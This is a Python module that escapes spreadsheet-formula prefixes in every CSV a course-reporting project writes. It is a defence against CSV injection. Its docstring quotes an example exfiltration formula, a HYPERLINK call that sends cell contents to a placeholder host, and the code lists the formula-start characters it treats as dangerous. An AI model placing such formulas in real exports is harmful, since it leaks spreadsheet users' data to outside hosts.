"""CSV that a spreadsheet opens as data: the one escaping rule for every CSV the project writes.

A cell that starts like a formula (`=`, `+`, `-`, `@`, a tab or a carriage return, or their
full-width forms, which some spreadsheets take as the same) is run by Excel, LibreOffice and Google
Sheets when the file is opened (OWASP "CSV injection"): a course title such as
`=HYPERLINK("http://x/?"&A1)` would send the sheet's cells away. Such a cell is written with an
apostrophe first, which spreadsheets show as text. A plain number (`-1.5`, `+2`) is left as it is: it
cannot be a formula, and a negative hours value stays readable.

Used by the report's CSV (`Report.to_csv`), a roster's summary (`roster.summary_csv_line`) and the
editor's "Download CSV" (`browser.editor_csv`).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

from .patterns import regex

FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
PLAIN_NUMBER = regex(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")


def inert(cell: Any) -> Any:
    """The cell as a spreadsheet must show it: text that could run as a formula gets an apostrophe
    first; anything else (numbers, None, other text) is returned unchanged."""
    if isinstance(cell, str) and cell[:1] in FORMULA_START and not PLAIN_NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


class CsvWriter:
    """`csv.writer` with Windows line ends (what Excel writes) whose every cell goes through `inert`."""

    def __init__(self, out: io.StringIO) -> None:
        self._writer = csv.writer(out, lineterminator="\r\n")

    def writerow(self, cells: Iterable[Any]) -> None:
        self._writer.writerow([inert(cell) for cell in cells])


def csv_line(cells: Iterable[Any]) -> str:
    """One CSV line (with its "\\r\\n"), every cell through `inert`."""
    out = io.StringIO()
    CsvWriter(out).writerow(cells)
    return out.getvalue()
